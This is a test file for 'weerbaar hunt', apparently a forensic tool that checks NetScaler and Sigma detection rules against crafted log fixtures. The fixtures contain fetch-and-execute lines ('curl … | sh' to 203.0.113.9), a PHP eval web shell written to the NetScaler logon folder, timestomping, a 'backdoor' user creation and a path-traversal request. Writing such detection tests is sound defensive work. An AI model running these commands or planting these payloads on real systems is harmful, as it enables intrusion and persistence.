import { appendFile, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { NETSCALER_LOG_RULES } from '../src/detection/netscaler-log-rules.js';
import { cli } from './support/cli-harness.js';
import { useEngineWorkspace } from './support/engine-workspace.js';
import { engines, postgresSkipReason } from './support/engines.js';

/** `weerbaar hunt`: the built-in NetScaler log rules and Sigma rules, exact hits, every rule accounted for. */

if (postgresSkipReason) describe.skip(postgresSkipReason, () => undefined);

interface Report {
  rules: { builtin: number; sigma: number };
  failed: { file: string; reason: string }[];
  notApplicable: { rule: string; reason: string }[];
  errors: unknown[];
  detections: number;
  summary: { ruleId: string; verdict: string; hits: number; first: string | null }[];
}

describe.each(engines)('hunt on $name', (engine) => {
  const t = useEngineWorkspace(engine);

  it('finds exactly the crafted attack lines and nothing of the look-alikes', async () => {
    const logs = join(t.root, 'var', 'log');
    await mkdir(logs, { recursive: true });
    const aaa = (user: Buffer) =>
      Buffer.concat([Buffer.from('<135> 07/15/2025:05:52:39 GMT ns-gw-01 0-PPE-6 : default AAA Message 12345678 0 :  "Authentication is rejected for '), user, Buffer.from('"\n')]);
    await writeFile(
      join(logs, 'ns.log'),
      Buffer.concat([
        aaa(Buffer.from([0x61, 0xc8, 0x9f, 0xff, 0x10])), // leaked bytes: an attempt
        aaa(Buffer.from('alice')), // an ordinary rejection: not one
        Buffer.from('<134> 07/15/2025:06:00:00 GMT ns-gw-01 0-PPE-0 : default CLI CMD_EXECUTED 6870 0 :  User nsroot - ADM_User NONE - Remote_ip 127.0.0.1 - Command "add system user backdoor secret" - Status "Success"\n'),
        Buffer.from('<134> 07/15/2025:06:01:00 GMT ns-gw-01 0-PPE-0 : default CLI CMD_EXECUTED 6871 0 :  User nsroot - ADM_User NONE - Remote_ip 10.0.0.5 - Command "show ns license" - Status "Success"\n'),
        Buffer.from('Jul 15 04:00:00 ns-gw-01 pitboss[123]: NSPPE-00 (12345) unexpectedly died\n'), // a crash: NS-R11
        Buffer.from('Jul 15 04:10:00 ns-gw-01 pitboss[123]: ppe NSPPE-01 unexpectedly died nsppe;curl -s http://203.0.113.9/x|sh\n'), // poisoned: NS-R3 (and NS-R11)
      ]),
    );
    await writeFile(
      join(logs, 'bash.log'),
      [
        'Jul 15 01:32:43 <local7.notice> ns-gw-01 bash[4242]: root on /dev/pts/3 shell_command="echo <?php @eval($_POST[1]); ?> > /var/netscaler/logon/x.php"',
        'Jul 15 01:33:00 <local7.notice> ns-gw-01 bash[4242]: root on /dev/pts/3 shell_command="grep -r <?php /var/netscaler/logon"',
        'Jul 15 01:34:00 <local7.notice> ns-gw-01 bash[4242]: root on /dev/pts/3 shell_command="touch -t 202506251432 /var/netscaler/logon/x.php"',
        '',
      ].join('\n'),
    );
    await writeFile(join(logs, 'cron'), ['Jul 15 02:00:00 <cron.info> ns-gw-01 /usr/sbin/cron[1]: (nobody) CMD (curl -s http://203.0.113.9/a | sh)', 'Jul 15 02:00:00 <cron.info> ns-gw-01 /usr/sbin/cron[2]: (root) CMD (newsyslog)', ''].join('\n'));
    expect((await cli(['-w', t.ws, 'evidence', 'add', '--tz', 'Europe/Amsterdam', logs], { env: t.env })).code).toBe(0);

    const run = await cli(['-w', t.ws, 'hunt', '--json'], { env: t.env });
    expect(run.code).toBe(0);
    const report = JSON.parse(run.stdout) as Report;
    const hits = Object.fromEntries(report.summary.map((r) => [r.ruleId, `${r.verdict} ${r.hits}`]));
    expect(hits).toEqual({ 'NS-R1': 'ATTEMPT 1', 'NS-R3': 'ATTEMPT 1', 'NS-R8-webshell': 'COMPROMISE 1', 'NS-R8': 'REVIEW 1', 'NS-R9': 'REVIEW 1', 'NS-R10': 'COMPROMISE 1', 'NS-R11': 'REVIEW 2' });
    expect(report.summary.find((r) => r.ruleId === 'NS-R1')?.first).toBe('2025-07-15T05:52:39.000Z');
    expect(report.errors).toEqual([]);

    const log = JSON.parse((await cli(['-w', t.ws, 'audit', 'log', '--json'], { env: t.env })).stdout) as { action: string }[];
    expect(log.some((e) => e.action === 'hunt.run')).toBe(true);

    // Our own collector's commands (reference C3) are never reported as the attacker's.
    await appendFile(join(t.ws, 'weerbaar.yaml'), "hunt:\n  own_activity:\n    commands: ['^echo <\\?php', '^touch ']\n");
    const again = JSON.parse((await cli(['-w', t.ws, 'hunt', '--json'], { env: t.env })).stdout) as Report;
    expect(again.summary.map((r) => r.ruleId).filter((id) => id.startsWith('NS-R8'))).toEqual([]);
  });

  it('runs Sigma rules over web logs and accounts for every rule it cannot run', async () => {
    const logs = join(t.root, 'web');
    await mkdir(logs);
    await writeFile(
      join(logs, 'access.log'),
      ['198.51.100.7 - - [15/Jul/2025:06:00:00 +0000] "GET /vpn/../vpns/cfg/smb.conf HTTP/1.1" 200 120 "-" "curl/8.0"', '198.51.100.8 - - [15/Jul/2025:06:00:01 +0000] "GET /index.html HTTP/1.1" 200 512 "-" "Mozilla/5.0"', ''].join('\n'),
    );
    expect((await cli(['-w', t.ws, 'evidence', 'add', logs], { env: t.env })).code).toBe(0);
    const rules = join(t.root, 'rules');
    await mkdir(rules);
    await writeFile(
      join(rules, 'traversal.yml'),
      ['title: Path traversal to vpns', 'id: 2f7a1c2e-0000-4000-8000-000000000001', 'logsource:', '  category: webserver', 'detection:', '  selection:', "    c-uri|contains: '/../vpns/'", '  condition: selection', 'level: high', ''].join('\n'),
    );
    await writeFile(join(rules, 'broken.yml'), ['title: Broken', 'logsource:', '  category: webserver', 'detection:', '  selection:', '    c-uri|containz: x', '  condition: selection', ''].join('\n'));
    await writeFile(join(rules, 'windows.yml'), ['title: Not here', 'logsource:', '  product: windows', 'detection:', '  selection:', '    Image: x', '  condition: selection', ''].join('\n'));

    const report = JSON.parse((await cli(['-w', t.ws, 'hunt', '--json', '--rules', rules], { env: t.env })).stdout) as Report;
    expect(report.rules.sigma).toBe(1);
    expect(report.failed).toEqual([expect.objectContaining({ file: join(rules, 'broken.yml'), reason: expect.stringContaining('containz') })]);
    expect(report.notApplicable).toEqual([expect.objectContaining({ reason: expect.stringContaining('windows') })]);
    // c-uri maps to url.original: the traversal request matches, the ordinary one does not.
    const sigma = report.summary.filter((r) => r.ruleId === '2f7a1c2e-0000-4000-8000-000000000001');
    expect(sigma.map((r) => `${r.verdict} ${r.hits} ${r.first}`)).toEqual(['REVIEW 1 2025-07-15T06:00:00.000Z']);
    const text = await cli(['-w', t.ws, 'hunt', '--rules', rules], { env: t.env });
    // Built-in: the row rules plus the stateful NS-R2, NS-R4 and the two kinds of NS-R5; the added log
    // folder is a collected tree, so the nine triage rules without IOCs (R11's crash dumps, R12–R20
    // but R17) ran over it too.
    const builtin = NETSCALER_LOG_RULES.length + 4;
    expect(text.stdout).toContain(`${builtin + 9 + 1} rules run (${builtin} built-in log rules, 9 triage, 1 Sigma, 0 Sigma correlations), 1 failed, 1 not applicable, 0 refused by the engine`);
  });

  it('tunes Sigma rules with filter rules, and reports filters that tune nothing', async () => {
    const logs = join(t.root, 'web');
    await mkdir(logs);
    const line = (ip: string, uri: string) => `${ip} - - [15/Jul/2025:06:00:00 +0000] "GET ${uri} HTTP/1.1" 200 120 "-" "curl/8.0"`;
    await writeFile(join(logs, 'access.log'), [line('198.51.100.7', '/vpn/../vpns/a'), line('192.0.2.44', '/vpn/../vpns/b'), ''].join('\n'));
    expect((await cli(['-w', t.ws, 'evidence', 'add', logs], { env: t.env })).code).toBe(0);
    const rules = join(t.root, 'rules');
    await mkdir(rules);
    const rule = ['title: Path traversal to vpns', 'id: 2f7a1c2e-0000-4000-8000-000000000002', 'logsource:', '  category: webserver', 'detection:', '  selection:', "    c-uri|contains: '/../vpns/'", '  condition: selection', ''];
    await writeFile(join(rules, 'traversal.yml'), rule.join('\n'));
    const filter = (title: string, category: string, ip: string) =>
      [`title: ${title}`, 'logsource:', `  category: ${category}`, 'filter:', '  rules:', '    - 2f7a1c2e-0000-4000-8000-000000000002', '  selection:', `    c-ip: ${ip}`, '  condition: selection', ''].join('\n');
    await writeFile(join(rules, 'mf_red_team.yml'), filter('Our red team', 'webserver', '192.0.2.44'));
    await writeFile(join(rules, 'mf_other.yml'), filter('Proxy tuning', 'proxy', '192.0.2.45'));
    const report = JSON.parse((await cli(['-w', t.ws, 'hunt', '--json', '--rules', rules], { env: t.env })).stdout) as Report;
    expect(report.summary.filter((r) => r.ruleId === '2f7a1c2e-0000-4000-8000-000000000002').map((r) => r.hits)).toEqual([1]);
    expect(report.notApplicable).toEqual([expect.objectContaining({ rule: expect.stringContaining('mf_other.yml'), reason: expect.stringContaining('is not the rule') })]);
  });

  it('flags a session used from a network nobody logged in from, and clears roaming between known networks', async () => {
    const logs = join(t.root, 'vpn');
    await mkdir(logs);
    const login = (t: string, user: string, session: number, ip: string) =>
      `<134> 07/15/2025:${t} GMT ns-gw-01 0-PPE-0 : default SSLVPN LOGIN 1 0 : Context ${user}@eps.example@${ip} - SessionId: ${session} - User ${user}@eps.example - Client_ip ${ip} - Nat_ip "Mapped Ip" - Vserver 192.0.2.10:443 - Browser_type "Mozilla/5.0" - Group(s) "N/A"`;
    const conn = (t: string, user: string, session: number, ip: string) =>
      `<134> 07/15/2025:${t} GMT ns-gw-01 0-PPE-0 : default SSLVPN TCPCONNSTAT 2 0 : Context ${user}@eps.example@${ip} - SessionId: ${session} - User ${user}@eps.example - Client_ip ${ip} - Nat_ip 10.0.0.8 - Vserver 192.0.2.10:443 - Source ${ip}:50000 - Destination 10.1.2.3:443 - Start_time "07/15/2025:${t} GMT" - End_time "07/15/2025:${t} GMT" - Duration 00:00:01  - Total_bytes_send 10 - Total_bytes_recv 20 - Access Allowed - Group(s) "N/A"`;
    await writeFile(
      join(logs, 'ns.log'),
      [
        login('07:00:00', 'alice', 1, '198.18.1.10'),
        login('07:05:00', 'alice', 2, '198.18.2.10'), // alice also uses her phone network
        conn('07:10:00', 'alice', 1, '198.18.2.11'), // roams to a network with logins: cleared
        login('08:00:00', 'bob', 3, '198.18.3.10'),
        conn('08:10:00', 'bob', 3, '198.18.3.10'),
        conn('09:00:00', 'bob', 3, '203.0.113.66'), // nobody ever logged in from 203.0.113.0/24
        conn('09:05:00', 'bob', 3, '203.0.113.66'),
        '',
      ].join('\n'),
    );
    expect((await cli(['-w', t.ws, 'evidence', 'add', logs], { env: t.env })).code).toBe(0);
    const report = JSON.parse((await cli(['-w', t.ws, 'hunt', '--json'], { env: t.env })).stdout) as Report & { roamingSessions: { sessionId: string; user: string; roamedTo: string[]; escalated: boolean }[] };
    expect(report.roamingSessions).toEqual([expect.objectContaining({ sessionId: '3', user: 'bob', roamedTo: ['203.0.113.66'], escalated: false })]);
    expect(report.summary.filter((r) => r.ruleId === 'NS-R4').map((r) => `${r.verdict} ${r.hits}`)).toEqual(['REVIEW 2']);
  });
});
